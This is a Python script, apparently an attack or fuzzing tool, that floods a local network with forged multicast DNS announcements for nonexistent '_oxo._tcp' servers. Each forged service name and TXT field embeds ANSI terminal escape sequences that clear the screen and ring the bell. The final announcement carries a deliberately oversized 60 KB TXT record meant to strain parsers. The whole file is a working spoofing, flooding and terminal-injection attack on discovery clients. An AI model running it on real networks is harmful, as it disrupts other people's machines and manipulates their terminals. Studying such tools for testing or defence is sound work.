"""Publishes servers that do not exist, by multicast DNS over IPv4: flood.py ADDRESS COUNT

Their names would steer a terminal, and the last of them has a TXT record of 60 KB.
"""

import socket
import struct
import sys
import time


def name(*labels):
    encoded = b"".join(bytes([len(label)]) + label for label in labels)
    return encoded + b"\0"


def record(owner, kind, flush, data):
    return owner + struct.pack("!HHIH", kind, 0x8001 if flush else 1, 4500, len(data)) + data


def server(number, txt):
    service = (b"_oxo", b"_tcp", b"local")
    instance = name(b"\x1b[2Jspoof\\.%d" % number, *service)
    host = name(b"spoof-%d" % number, b"local")
    records = [
        record(name(*service), 12, False, instance),
        record(instance, 33, True, struct.pack("!HHH", 0, 0, 1952) + host),
        record(instance, 16, True, txt),
        record(host, 1, True, socket.inet_aton(sys.argv[1])),
    ]
    return struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def txt(*more):
    strings = [b"txtvers=1", b"protovers=3", b"name=\x1b[2Jeve\x07", *more]
    return b"".join(bytes([len(string)]) + string for string in strings)


out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
out.bind((sys.argv[1], 5353))
out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[1]))
out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
for number in range(int(sys.argv[2])):
    out.sendto(server(number, txt()), ("224.0.0.251", 5353))
    if number % 50 == 0:
        # So that they are not lost for want of buffers.
        time.sleep(0.005)
out.sendto(server(10**9, txt(*[b"x" * 255] * 234)), ("224.0.0.251", 5353))
